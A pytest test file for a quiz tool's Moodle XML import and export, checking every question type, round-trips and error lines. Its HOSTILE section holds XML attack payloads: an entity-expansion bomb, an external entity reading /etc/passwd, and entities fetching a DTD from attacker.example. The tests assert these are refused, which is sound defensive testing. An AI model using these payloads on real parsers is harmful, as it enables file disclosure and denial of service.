"""Moodle XML: every question type imported from Moodle-style exports, exported, round-tripped,
and broken or hostile files refused with their lines."""

from __future__ import annotations

import contextlib
import random
import xml.etree.ElementTree as StdET
from dataclasses import replace
from decimal import Decimal

import pytest

from quizzes.formats.moodlexml import export_moodle_xml, parse_moodle_xml
from quizzes.questions import (
    Answer,
    ClozeGap,
    GapKind,
    MatchPair,
    QuestionData,
    QuestionFormatError,
    QuestionType,
    TextFormat,
)

D = Decimal
HTML = TextFormat.HTML


def quiz(*questions: str) -> str:
    return '<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n' + "\n".join(questions) + "</quiz>\n"


def lineless(questions: list[QuestionData]) -> list[QuestionData]:
    """QuestionData compares source_line; questions built in tests have none."""
    return [replace(question, source_line=0) for question in questions]


def problems_of(error: pytest.ExceptionInfo[QuestionFormatError]) -> list[tuple[int, str]]:
    return [(problem.line, problem.message) for problem in error.value.problems]


# Import: one realistic Moodle export per type -----------------------------------------------

MULTICHOICE = """\
<!-- question: 42  -->
  <question type="multichoice">
    <name>
      <text>Capital of France</text>
    </name>
    <questiontext format="html">
      <text><![CDATA[<p>What is the capital of <b>France</b>?</p>]]></text>
    </questiontext>
    <generalfeedback format="html">
      <text><![CDATA[<p>Paris has been the capital since 508.</p>]]></text>
    </generalfeedback>
    <defaultgrade>2.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <single>true</single>
    <shuffleanswers>true</shuffleanswers>
    <answernumbering>abc</answernumbering>
    <showstandardinstruction>0</showstandardinstruction>
    <correctfeedback format="html">
      <text>Your answer is correct.</text>
    </correctfeedback>
    <partiallycorrectfeedback format="html">
      <text>Your answer is partially correct.</text>
    </partiallycorrectfeedback>
    <incorrectfeedback format="html">
      <text>Your answer is incorrect.</text>
    </incorrectfeedback>
    <shownumcorrect/>
    <answer fraction="100" format="html">
      <text><![CDATA[<p>Paris</p>]]></text>
      <feedback format="html">
        <text>Right.</text>
      </feedback>
    </answer>
    <answer fraction="0" format="html">
      <text><![CDATA[<p>Lyon</p>]]></text>
      <feedback format="html">
        <text></text>
      </feedback>
    </answer>
    <hint format="html">
      <text>Think of the Eiffel tower.</text>
    </hint>
    <tags>
      <tag><text>geography</text>
</tag>
      <tag><text>europe</text>
</tag>
    </tags>
  </question>
"""

MULTIRESPONSE = """\
  <question type="multichoice">
    <name>
      <text>Primes</text>
    </name>
    <questiontext format="moodle_auto_format">
      <text>Which numbers are prime?</text>
    </questiontext>
    <generalfeedback format="moodle_auto_format">
      <text></text>
    </generalfeedback>
    <defaultgrade>3.0000000</defaultgrade>
    <single>false</single>
    <shuffleanswers>false</shuffleanswers>
    <answernumbering>123</answernumbering>
    <answer fraction="33.33333" format="moodle_auto_format">
      <text>2</text>
      <feedback format="moodle_auto_format">
        <text></text>
      </feedback>
    </answer>
    <answer fraction="33.33333" format="moodle_auto_format">
      <text>3</text>
      <feedback format="moodle_auto_format">
        <text></text>
      </feedback>
    </answer>
    <answer fraction="33.33333" format="moodle_auto_format">
      <text>5</text>
      <feedback format="moodle_auto_format">
        <text></text>
      </feedback>
    </answer>
    <answer fraction="-50" format="moodle_auto_format">
      <text>4</text>
      <feedback format="moodle_auto_format">
        <text>4 = 2 × 2</text>
      </feedback>
    </answer>
  </question>
"""

TRUEFALSE = """\
  <question type="truefalse">
    <name>
      <text>Sunrise</text>
    </name>
    <questiontext format="html">
      <text><![CDATA[<p>The sun rises in the west.</p>]]></text>
    </questiontext>
    <generalfeedback format="html">
      <text></text>
    </generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>1.0000000</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <answer fraction="0" format="moodle_auto_format">
      <text>true</text>
      <feedback format="html">
        <text>It rises in the east.</text>
      </feedback>
    </answer>
    <answer fraction="100" format="moodle_auto_format">
      <text>false</text>
      <feedback format="html">
        <text></text>
      </feedback>
    </answer>
  </question>
"""

SHORTANSWER = """\
  <question type="shortanswer">
    <name>
      <text>Grant</text>
    </name>
    <questiontext format="plain_text">
      <text>Who is buried in Grant's tomb?</text>
    </questiontext>
    <generalfeedback format="plain_text">
      <text></text>
    </generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <usecase>1</usecase>
    <answer fraction="100" format="moodle_auto_format">
      <text>no one</text>
      <feedback format="plain_text">
        <text>Correct!</text>
      </feedback>
    </answer>
    <answer fraction="50" format="moodle_auto_format">
      <text>Grant*</text>
      <feedback format="plain_text">
        <text></text>
      </feedback>
    </answer>
  </question>
"""

NUMERICAL = """\
  <question type="numerical">
    <name>
      <text>Pi</text>
    </name>
    <questiontext format="markdown">
      <text>What is **pi** to two places?</text>
    </questiontext>
    <generalfeedback format="markdown">
      <text></text>
    </generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <answer fraction="100" format="moodle_auto_format">
      <text>3.14</text>
      <feedback format="html">
        <text></text>
      </feedback>
      <tolerance>0.005</tolerance>
    </answer>
    <answer fraction="0" format="moodle_auto_format">
      <text>*</text>
      <feedback format="html">
        <text>Not even close.</text>
      </feedback>
      <tolerance>0</tolerance>
    </answer>
    <unitgradingtype>0</unitgradingtype>
    <unitpenalty>0.1000000</unitpenalty>
    <showunits>3</showunits>
    <unitsleft>0</unitsleft>
  </question>
"""

MATCHING = """\
  <question type="matching">
    <name>
      <text>Animal sounds</text>
    </name>
    <questiontext format="html">
      <text><![CDATA[<p>Match each animal to its sound.</p>]]></text>
    </questiontext>
    <generalfeedback format="html">
      <text></text>
    </generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <shuffleanswers>true</shuffleanswers>
    <correctfeedback format="html">
      <text>Your answer is correct.</text>
    </correctfeedback>
    <subquestion format="html">
      <text><![CDATA[<p>cat</p>]]></text>
      <answer>
        <text>meow</text>
      </answer>
    </subquestion>
    <subquestion format="html">
      <text><![CDATA[<p>dog</p>]]></text>
      <answer>
        <text>woof</text>
      </answer>
    </subquestion>
    <subquestion format="html">
      <text></text>
      <answer>
        <text>moo</text>
      </answer>
    </subquestion>
  </question>
"""

ESSAY = """\
  <question type="essay">
    <name>
      <text>Kappa essay</text>
    </name>
    <questiontext format="moodle_auto_format">
      <text>Discuss the causes of the war.</text>
    </questiontext>
    <generalfeedback format="moodle_auto_format">
      <text></text>
    </generalfeedback>
    <defaultgrade>10.0000000</defaultgrade>
    <penalty>0.0000000</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <responseformat>plain</responseformat>
    <responserequired>1</responserequired>
    <responsefieldlines>15</responsefieldlines>
    <attachments>0</attachments>
    <attachmentsrequired>0</attachmentsrequired>
    <graderinfo format="html">
      <text><![CDATA[<p>Expect three causes.</p>]]></text>
    </graderinfo>
    <responsetemplate format="html">
      <text></text>
    </responsetemplate>
  </question>
"""

DESCRIPTION = """\
  <question type="description">
    <name>
      <text>Intro</text>
    </name>
    <questiontext format="html">
      <text><![CDATA[<p>Read the passage first.</p>]]></text>
    </questiontext>
    <generalfeedback format="html">
      <text></text>
    </generalfeedback>
    <defaultgrade>0.0000000</defaultgrade>
    <penalty>0.0000000</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
  </question>
"""

CLOZE = (
    '  <question type="cloze">\n'
    "    <name>\n"
    "      <text>Capitals</text>\n"
    "    </name>\n"
    '    <questiontext format="html">\n'
    "      <text><![CDATA[<p>The capital of France is {1:SHORTANSWER:%100%Paris"
    "#Congratulations!~%50%Marseille#No, that is the second largest city.~*#Wrong answer.}.</p>\n"
    "<p>Is {2:MULTICHOICE:=Berlin#OK~Bonn#No} the capital of Germany? "
    "Pi is {:NUMERICAL:=3.14:0.01}.</p>]]></text>\n"
    "    </questiontext>\n"
    '    <generalfeedback format="html">\n'
    "      <text></text>\n"
    "    </generalfeedback>\n"
    "    <penalty>0.3333333</penalty>\n"
    "    <hidden>0</hidden>\n"
    "    <idnumber></idnumber>\n"
    "  </question>\n"
)

ORDERING = """\
  <question type="ordering">
    <name>
      <text>Moodle</text>
    </name>
    <questiontext format="html">
      <text>Put these words in order.</text>
    </questiontext>
    <generalfeedback format="html">
      <text><![CDATA["Modular Object Oriented Dynamic Learning Environment".]]></text>
    </generalfeedback>
    <defaultgrade>1</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber>myid</idnumber>
    <layouttype>HORIZONTAL</layouttype>
    <selecttype>RANDOM</selecttype>
    <selectcount>4</selectcount>
    <gradingtype>ABSOLUTE_POSITION</gradingtype>
    <showgrading>SHOW</showgrading>
    <numberingstyle>none</numberingstyle>
    <correctfeedback format="html">
      <text>Well done!</text>
    </correctfeedback>
    <shownumcorrect>1</shownumcorrect>
    <answer fraction="1" format="html">
      <text>Modular</text>
      <feedback format="html">
        <text>Modular is correct.</text>
      </feedback>
    </answer>
    <answer fraction="2" format="html">
      <text>Object</text>
    </answer>
    <answer fraction="3" format="html">
      <text>Oriented</text>
    </answer>
    <answer fraction="4" format="html">
      <text>Dynamic</text>
    </answer>
    <answer fraction="5" format="html">
      <text>Learning</text>
    </answer>
    <answer fraction="6" format="html">
      <text>Environment</text>
    </answer>
  </question>
"""

IMPORTED = [
    pytest.param(
        MULTICHOICE,
        QuestionData(
            type=QuestionType.SINGLE_CHOICE,
            name="Capital of France",
            stem="<p>What is the capital of <b>France</b>?</p>",
            stem_format=HTML,
            points=D(2),
            general_feedback="<p>Paris has been the capital since 508.</p>",
            general_feedback_format=HTML,
            answers=(
                Answer("<p>Paris</p>", D(1), "Right.", text_format=HTML, feedback_format=HTML),
                Answer("<p>Lyon</p>", D(0), "", text_format=HTML, feedback_format=HTML),
            ),
            tags=("geography", "europe"),
            shuffle_answers=True,
        ),
        id="multichoice-single",
    ),
    pytest.param(
        MULTIRESPONSE,
        QuestionData(
            type=QuestionType.MULTIPLE_RESPONSE,
            name="Primes",
            stem="Which numbers are prime?",
            stem_format=TextFormat.MOODLE,
            points=D(3),
            general_feedback_format=TextFormat.MOODLE,
            answers=tuple(
                Answer(
                    text,
                    fraction,
                    feedback,
                    text_format=TextFormat.MOODLE,
                    feedback_format=TextFormat.MOODLE,
                )
                for text, fraction, feedback in [
                    ("2", D("0.3333333"), ""),
                    ("3", D("0.3333333"), ""),
                    ("5", D("0.3333333"), ""),
                    ("4", D("-0.5"), "4 = 2 × 2"),
                ]
            ),
            shuffle_answers=False,
        ),
        id="multichoice-multiple-response",
    ),
    pytest.param(
        TRUEFALSE,
        QuestionData(
            type=QuestionType.TRUE_FALSE,
            name="Sunrise",
            stem="<p>The sun rises in the west.</p>",
            stem_format=HTML,
            general_feedback_format=HTML,
            answers=(
                Answer("true", D(0), "It rises in the east.", feedback_format=HTML),
                Answer("false", D(1), "", feedback_format=HTML),
            ),
        ),
        id="truefalse",
    ),
    pytest.param(
        SHORTANSWER,
        QuestionData(
            type=QuestionType.SHORT_ANSWER,
            name="Grant",
            stem="Who is buried in Grant's tomb?",
            stem_format=TextFormat.PLAIN,
            general_feedback_format=TextFormat.PLAIN,
            answers=(
                Answer("no one", D(1), "Correct!", feedback_format=TextFormat.PLAIN),
                Answer("Grant*", D("0.5"), "", feedback_format=TextFormat.PLAIN),
            ),
        ),
        id="shortanswer",
    ),
    pytest.param(
        NUMERICAL,
        QuestionData(
            type=QuestionType.NUMERICAL,
            name="Pi",
            stem="What is **pi** to two places?",
            stem_format=TextFormat.MARKDOWN,
            general_feedback_format=TextFormat.MARKDOWN,
            answers=(
                Answer("3.14", D(1), "", D("0.005"), feedback_format=HTML),
                Answer("*", D(0), "Not even close.", D(0), feedback_format=HTML),
            ),
        ),
        id="numerical",
    ),
    pytest.param(
        MATCHING,
        QuestionData(
            type=QuestionType.MATCHING,
            name="Animal sounds",
            stem="<p>Match each animal to its sound.</p>",
            stem_format=HTML,
            general_feedback_format=HTML,
            pairs=(
                MatchPair("<p>cat</p>", "meow", HTML),
                MatchPair("<p>dog</p>", "woof", HTML),
                MatchPair("", "moo", HTML),
            ),
        ),
        id="matching-with-distractor",
    ),
    pytest.param(
        ESSAY,
        QuestionData(
            type=QuestionType.ESSAY,
            name="Kappa essay",
            stem="Discuss the causes of the war.",
            stem_format=TextFormat.MOODLE,
            general_feedback_format=TextFormat.MOODLE,
            points=D(10),
        ),
        id="essay",
    ),
    pytest.param(
        DESCRIPTION,
        QuestionData(
            type=QuestionType.DESCRIPTION,
            name="Intro",
            stem="<p>Read the passage first.</p>",
            stem_format=HTML,
            general_feedback_format=HTML,
            points=D(0),
        ),
        id="description",
    ),
    pytest.param(
        CLOZE,
        QuestionData(
            type=QuestionType.CLOZE,
            name="Capitals",
            stem="<p>The capital of France is {{1}}.</p>\n"
            "<p>Is {{2}} the capital of Germany? Pi is {{3}}.</p>",
            stem_format=HTML,
            general_feedback_format=HTML,
            points=D(4),
            gaps=(
                ClozeGap(
                    GapKind.TEXT,
                    (
                        Answer("Paris", D(1), "Congratulations!"),
                        Answer("Marseille", D("0.5"), "No, that is the second largest city."),
                        Answer("*", D(0), "Wrong answer."),
                    ),
                ),
                ClozeGap(
                    GapKind.CHOICE, (Answer("Berlin", D(1), "OK"), Answer("Bonn", D(0), "No")), D(2)
                ),
                ClozeGap(GapKind.NUMERICAL, (Answer("3.14", D(1), tolerance=D("0.01")),)),
            ),
            shuffle_answers=False,
        ),
        id="cloze",
    ),
    pytest.param(
        ORDERING,
        QuestionData(
            type=QuestionType.ORDERING,
            name="Moodle",
            stem="Put these words in order.",
            stem_format=HTML,
            general_feedback='"Modular Object Oriented Dynamic Learning Environment".',
            general_feedback_format=HTML,
            items=("Modular", "Object", "Oriented", "Dynamic", "Learning", "Environment"),
        ),
        id="ordering",
    ),
]


@pytest.mark.parametrize(("question_xml", "expected"), IMPORTED)
def test_import_reads_each_type_of_a_moodle_export(question_xml, expected):
    assert lineless(parse_moodle_xml(quiz(question_xml))) == [expected]


@pytest.mark.parametrize(
    ("question_xml", "extra"),
    [
        pytest.param(SHORTANSWER, {"usecase": "1"}, id="shortanswer-usecase"),
        pytest.param(MULTIRESPONSE, {"answernumbering": "123"}, id="multichoice-numbering"),
        pytest.param(
            ESSAY,
            {
                "responseformat": "plain",
                "responsefieldlines": "15",
                "attachments": "0",
                "graderinfo": "<p>Expect three causes.</p>",
                "graderinfo_format": "html",
            },
            id="essay-settings",
        ),
        pytest.param(
            ORDERING,
            {
                "layouttype": "HORIZONTAL",
                "gradingtype": "ABSOLUTE_POSITION",
                "showgrading": "SHOW",
            },
            id="ordering-settings",
        ),
    ],
)
def test_import_keeps_moodle_settings_docent_does_not_use_in_extra(question_xml, extra):
    (question,) = parse_moodle_xml(quiz(question_xml))
    assert question.extra == extra


def test_import_records_each_question_line():
    questions = parse_moodle_xml(quiz(MULTICHOICE, TRUEFALSE))
    assert [question.source_line for question in questions] == [4, 55]


def test_import_accepts_bytes_in_any_declared_encoding():
    text = quiz(MULTIRESPONSE.replace("prime?", "prime? – café"))
    for data in (
        text.encode("utf-8"),
        text.encode("utf-8-sig"),
        text.replace("UTF-8", "UTF-16").encode("utf-16"),
        text.replace("UTF-8", "windows-1252").encode("windows-1252"),
    ):
        (question,) = parse_moodle_xml(data)
        assert question.stem == "Which numbers are prime? – café"


@pytest.mark.parametrize(
    ("attribute", "text_format"),
    [
        ('format="html"', TextFormat.HTML),
        ('format="moodle_auto_format"', TextFormat.MOODLE),
        ('format="plain_text"', TextFormat.PLAIN),
        ('format="markdown"', TextFormat.MARKDOWN),
        ('format="wiki_like"', TextFormat.MOODLE),
        ('format="unheard_of"', TextFormat.HTML),
        ("", TextFormat.HTML),
    ],
)
def test_import_maps_moodle_text_formats(attribute, text_format):
    xml = DESCRIPTION.replace('<questiontext format="html">', f"<questiontext {attribute}>")
    (question,) = parse_moodle_xml(quiz(xml))
    assert question.stem_format == text_format


CATEGORIES = [
    ("$course$/top/Geography/Europe", "Geography/Europe"),
    ("$course$/Geography", "Geography"),
    ("$module$/top/Quiz 1", "Quiz 1"),
    ("$system$/top/Shared/Maths", "Shared/Maths"),
    ("$course$/top", ""),
    ("$course$/top/Default", ""),
    ("Plain / path ", "Plain/path"),
]


@pytest.mark.parametrize(("path", "category"), CATEGORIES)
def test_category_pseudo_questions_set_the_following_questions_category(path, category):
    category_xml = f"""\
  <question type="category">
    <category>
      <text>{path}</text>
    </category>
    <info format="moodle_auto_format">
      <text>Some description</text>
    </info>
    <idnumber></idnumber>
  </question>
"""
    questions = parse_moodle_xml(quiz(ESSAY, category_xml, TRUEFALSE, DESCRIPTION))

    assert [question.category for question in questions] == ["", category, category]


@pytest.mark.parametrize(
    ("element", "shuffle"),
    [("", True), ("<shuffleanswers>false</shuffleanswers>", False), ("<shuffleanswers>0", False)],
)
def test_shuffleanswers_is_read_for_any_type(element, shuffle):
    if element == "<shuffleanswers>0":
        element = "<shuffleanswers>0</shuffleanswers>"
    xml = ORDERING.replace("<layouttype>", element + "<layouttype>")
    (question,) = parse_moodle_xml(quiz(xml))
    assert question.shuffle_answers is shuffle


@pytest.mark.parametrize(
    ("gap", "shuffle"), [("{1:MCS:=a~b}", True), ("{1:MC:=a~b}", False), ("{1:SA:=a}", True)]
)
def test_cloze_shuffle_comes_from_its_choice_gaps(gap, shuffle):
    xml = f'<question type="cloze"><questiontext><text>Pick {gap}</text></questiontext></question>'
    (question,) = parse_moodle_xml(quiz(xml))
    assert question.shuffle_answers is shuffle


# Import errors --------------------------------------------------------------------------------

BROKEN_QUESTIONS = [
    pytest.param(
        '<question type="calculated">\n<questiontext><text>{a}+{b}</text></questiontext>\n'
        "</question>",
        [(4, "'calculated' is not supported")],
        id="unknown-type-named",
    ),
    pytest.param(
        "<question>\n<questiontext><text>x</text></questiontext>\n</question>",
        [(4, "no type attribute")],
        id="missing-type",
    ),
    pytest.param(
        '<question type="essay">\n<name><text>x</text></name>\n</question>',
        [(4, "no <questiontext>")],
        id="missing-question-text",
    ),
    pytest.param(
        '<question type="essay">\n<questiontext><text><p>raw html</p></text></questiontext>\n'
        "</question>",
        [(5, "HTML must be escaped or in CDATA")],
        id="unescaped-html",
    ),
    pytest.param(
        '<question type="multichoice">\n<questiontext><text>Q</text></questiontext>\n'
        '<answer fraction="lots">\n<text>a</text>\n</answer>\n'
        '<answer fraction="100">\n<text></text>\n</answer>\n</question>',
        [(6, "fraction 'lots' is not a percentage"), (9, "Answer 2 has no text")],
        id="multichoice-bad-fraction-and-empty-answer",
    ),
    pytest.param(
        '<question type="multichoice">\n<questiontext><text>Q</text></questiontext>\n'
        '<answer fraction="50"><text>a</text></answer>\n'
        '<answer fraction="0"><text>b</text></answer>\n</question>',
        [(4, "no answer is worth 100%")],
        id="single-choice-without-right-answer",
    ),
    pytest.param(
        '<question type="multichoice">\n<questiontext><text>Q</text></questiontext>\n'
        '<answer fraction="150"><text>a</text></answer>\n</question>',
        [(4, "at least two answers"), (6, "is not a percentage")],
        id="multichoice-one-answer-over-100",
    ),
    pytest.param(
        '<question type="truefalse">\n<questiontext><text>Q</text></questiontext>\n'
        '<answer fraction="100"><text>true</text></answer>\n'
        '<answer fraction="100"><text>false</text></answer>\n</question>',
        [(4, "'true' and a 'false' answer")],
        id="truefalse-both-right",
    ),
    pytest.param(
        '<question type="shortanswer">\n<questiontext><text>Q</text></questiontext>\n'
        "<defaultgrade>many</defaultgrade>\n</question>",
        [(4, "needs an answer"), (6, "<defaultgrade> 'many'")],
        id="shortanswer-without-answers-bad-grade",
    ),
    pytest.param(
        '<question type="numerical">\n<questiontext><text>Q</text></questiontext>\n'
        '<answer fraction="100">\n<text>three</text>\n<tolerance>-1</tolerance>\n</answer>\n'
        "</question>",
        [(6, "'three' is not a number"), (8, "tolerance '-1'")],
        id="numerical-not-a-number",
    ),
    pytest.param(
        '<question type="matching">\n<questiontext><text>Q</text></questiontext>\n'
        "<subquestion>\n<text>a</text>\n<answer><text></text></answer>\n</subquestion>\n"
        "</question>",
        [(4, "at least two subquestions"), (6, "subquestion has no answer")],
        id="matching-too-small",
    ),
    pytest.param(
        '<question type="ordering">\n<questiontext><text>Q</text></questiontext>\n'
        "<answer><text>only</text></answer>\n</question>",
        [(4, "at least two items")],
        id="ordering-one-item",
    ),
    pytest.param(
        '<question type="cloze">\n<questiontext format="html">\n<text>\n\n'
        "<![CDATA[<p>A {1:SA:=ok} B {1:MC:=lonely}</p>\n<p>C {1:FOO:=x}</p>]]></text>\n"
        "</questiontext>\n</question>",
        [(8, "at least two answers"), (9, "Unknown gap type FOO")],
        id="cloze-errors-at-their-own-lines",
    ),
    pytest.param(
        '<question type="cloze">\n<questiontext><text>No gaps here.</text></questiontext>\n'
        "</question>",
        [(5, "at least one gap")],
        id="cloze-without-gaps",
    ),
]


@pytest.mark.parametrize(("question_xml", "problems"), BROKEN_QUESTIONS)
def test_import_refuses_the_whole_file_with_every_problem_and_line(question_xml, problems):
    # The valid first question must not be returned either.
    with pytest.raises(QuestionFormatError) as error:
        parse_moodle_xml(quiz(DESCRIPTION.replace("\n", " "), question_xml))
    found = problems_of(error)
    assert len(found) == len(problems), found
    for (line, fragment), (found_line, message) in zip(problems, found, strict=True):
        assert (found_line, fragment in message) == (line, True), found


NOT_XML = [
    pytest.param("", 1, "not well-formed XML: no element found", id="empty"),
    pytest.param(b"\xff\xfe\x00", 1, "not well-formed XML", id="bytes-garbage"),
    pytest.param("<quiz>\n<question type='essay'>\n</quiz>", 3, "mismatched tag", id="mismatched"),
    pytest.param("<quiz>\n<a>&nbsp;</a></quiz>", 2, "undefined entity", id="html-entity"),
    pytest.param("GIFT? {=yes ~no}", 1, "not well-formed XML", id="not-xml-at-all"),
    pytest.param("<questions/>", 1, "not <quiz>", id="wrong-root"),
    pytest.param(b'<?xml version="1.0" encoding="klingon"?><quiz/>', 0, "unknown encoding"),
]


@pytest.mark.parametrize(("data", "line", "fragment"), NOT_XML)
def test_import_refuses_files_that_are_not_moodle_xml(data, line, fragment):
    with pytest.raises(QuestionFormatError) as error:
        parse_moodle_xml(data)
    ((found_line, message),) = problems_of(error)
    assert (found_line, fragment in message) == (line, True), message


HOSTILE = [
    pytest.param(
        """<?xml version="1.0"?>
<!DOCTYPE quiz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<quiz><question type="essay"><questiontext><text>&lol3;</text></questiontext></question></quiz>
""",
        id="billion-laughs",
    ),
    pytest.param(
        """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="essay"><questiontext><text>&secret;</text></questiontext></question></quiz>
""",
        id="external-entity",
    ),
    pytest.param(
        """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<quiz/>
""",
        id="external-parameter-entity",
    ),
    pytest.param(
        """<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.example/evil.dtd">
<quiz/>
""",
        id="external-dtd",
    ),
]


@pytest.mark.parametrize("data", HOSTILE)
def test_hostile_xml_is_refused_not_parsed(data):
    with pytest.raises(QuestionFormatError) as error:
        parse_moodle_xml(data)
    ((line, message),) = problems_of(error)
    assert line == 2
    assert "refused" in message
    assert "root:" not in message


# Export --------------------------------------------------------------------------------------

ONE_OF_EACH = [
    QuestionData(
        type=QuestionType.SINGLE_CHOICE,
        name="Capital",
        stem="<p>Capital of France?</p>",
        stem_format=HTML,
        answers=(
            Answer("Paris", D(1), "Right", text_format=TextFormat.PLAIN),
            Answer("<i>Lyon</i>", D(0), "<b>No</b>", feedback_format=HTML),
        ),
        general_feedback="Paris is the capital.",
        general_feedback_format=TextFormat.PLAIN,
        category="Geography/Europe",
        tags=("europe", "capitals"),
    ),
    QuestionData(
        type=QuestionType.MULTIPLE_RESPONSE,
        name="Colours",
        stem="Primary colours?",
        answers=(
            Answer("red", D("0.3333333")),
            Answer("blue", D("0.3333333")),
            Answer("yellow", D("0.3333334")),
            Answer("green", D("-0.5"), "No: that is additive."),
        ),
        points=D("2.5"),
        shuffle_answers=False,
    ),
    QuestionData(
        type=QuestionType.TRUE_FALSE,
        stem="The sun rises in the east.",
        answers=(Answer("true", D(1), "Yes"), Answer("false", D(0), "It does.")),
        category="Astronomy",
    ),
    QuestionData(
        type=QuestionType.SHORT_ANSWER,
        stem="Who is buried in Grant's tomb?",
        answers=(Answer("no one", D(1)), Answer("Grant*", D("0.5"))),
    ),
    QuestionData(
        type=QuestionType.NUMERICAL,
        stem="Pi to two places?",
        stem_format=TextFormat.MARKDOWN,
        answers=(
            Answer("3.14", D(1), tolerance=D("0.005")),
            Answer("3", D("0.33333"), tolerance=D(0)),
            Answer("*", D(0), "No."),
        ),
    ),
    QuestionData(
        type=QuestionType.MATCHING,
        stem="Match.",
        pairs=(
            MatchPair("cat", "meow"),
            MatchPair("<b>dog</b>", "woof", HTML),
            MatchPair("", "moo"),
        ),
        shuffle_answers=False,
    ),
    QuestionData(type=QuestionType.ORDERING, stem="Order.", items=("one", "two", "three")),
    QuestionData(
        type=QuestionType.CLOZE,
        stem="The capital is {{1}} and pi is {{2}}; {{3}}.",
        stem_format=HTML,
        gaps=(
            ClozeGap(GapKind.CHOICE, (Answer("Paris", D(1)), Answer("Rome", D(0), "No")), D(2)),
            ClozeGap(GapKind.NUMERICAL, (Answer("3.14", D(1), tolerance=D("0.01")),)),
            ClozeGap(GapKind.TEXT, (Answer("a}b#c~d", D(1), "ok"), Answer("AT&T", D("0.5")))),
        ),
        points=D(1),
    ),
    QuestionData(type=QuestionType.ESSAY, stem="Discuss.", points=D(10), shuffle_answers=False),
    QuestionData(type=QuestionType.DESCRIPTION, stem="Read this first.", points=D(0)),
]


def _type_id(question: QuestionData) -> str:
    return question.type.value


@pytest.mark.parametrize("question", ONE_OF_EACH, ids=_type_id)
def test_each_type_round_trips(question):
    text = export_moodle_xml([question])

    assert lineless(parse_moodle_xml(text)) == [question]
    assert export_moodle_xml(parse_moodle_xml(text)) == text


def test_a_whole_bank_round_trips_with_its_categories():
    text = export_moodle_xml(ONE_OF_EACH)

    assert lineless(parse_moodle_xml(text)) == ONE_OF_EACH
    assert export_moodle_xml(parse_moodle_xml(text)) == text


def test_imported_moodle_questions_survive_export_and_import():
    imported = parse_moodle_xml(quiz(*(str(param.values[0]) for param in IMPORTED)))
    text = export_moodle_xml(imported)

    again = parse_moodle_xml(text)
    assert lineless(again) == lineless(imported)
    assert [question.extra for question in again] == [question.extra for question in imported]
    assert export_moodle_xml(again) == text


TRICKY_TEXTS = [
    pytest.param("<p>a &amp; b</p>", id="html-entity"),
    pytest.param("<![CDATA[inner]]> and ]]> again", id="cdata-end-marker"),
    pytest.param("Windows\r\nline ends\rand a lone CR", id="carriage-returns"),
    pytest.param("Ünïcödé – “quotes” 😀 and 'apostrophes'", id="unicode"),
    pytest.param("tabs\tand\nnew\nlines", id="tabs-and-newlines"),
    pytest.param("<script>alert('x')</script>", id="markup-kept-verbatim"),
]


@pytest.mark.parametrize("text", TRICKY_TEXTS)
def test_any_text_round_trips(text):
    question = QuestionData(
        type=QuestionType.SHORT_ANSWER,
        name=text,
        stem=text,
        stem_format=HTML,
        general_feedback=text,
        answers=(Answer(text, D(1), text),),
        tags=(text,),
        category=text.replace("/", ""),
    )
    exported = export_moodle_xml([question])

    assert lineless(parse_moodle_xml(exported)) == [question]
    assert export_moodle_xml(parse_moodle_xml(exported)) == exported


def test_export_is_well_formed_utf8_xml():
    text = export_moodle_xml(ONE_OF_EACH)

    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n')
    root = StdET.fromstring(text.encode("utf-8"))
    assert root.tag == "quiz"
    assert [node.get("type") for node in root] == [
        "category",
        "multichoice",
        "category",
        "multichoice",
        "category",
        "truefalse",
        "category",
        "shortanswer",
        "numerical",
        "matching",
        "ordering",
        "cloze",
        "essay",
        "description",
    ]


def test_export_writes_a_category_question_only_when_the_category_changes():
    questions = [
        replace(ONE_OF_EACH[2], category=category) for category in ["", "A/B", "A/B", "", "C"]
    ]
    root = StdET.fromstring(export_moodle_xml(questions))

    categories = [node.findtext("category/text") for node in root if node.get("type") == "category"]
    assert categories == ["$course$/top/A/B", "$course$/top/Default", "$course$/top/C"]


EXPORTED_CONTENT = [
    pytest.param(
        ONE_OF_EACH[0],
        [
            '<question type="multichoice">',
            "<text><![CDATA[<p>Capital of France?</p>]]></text>",
            '<questiontext format="html">',
            '<generalfeedback format="plain_text">',
            "<defaultgrade>1</defaultgrade>",
            "<single>true</single>",
            '<answer fraction="100" format="plain_text">',
            '<answer fraction="0">',
            '<feedback format="html">\n        <text><![CDATA[<b>No</b>]]></text>',
            "<tag><text>europe</text></tag>",
        ],
        id="single-choice",
    ),
    pytest.param(
        ONE_OF_EACH[1],
        [
            "<single>false</single>",
            "<shuffleanswers>false</shuffleanswers>",
            '<answer fraction="33.33333">',
            '<answer fraction="-50">',
            "<defaultgrade>2.5</defaultgrade>",
            "<generalfeedback>\n",
        ],
        id="multiple-response",
    ),
    pytest.param(
        ONE_OF_EACH[3], ["<usecase>0</usecase>", '<answer fraction="50">'], id="shortanswer"
    ),
    pytest.param(
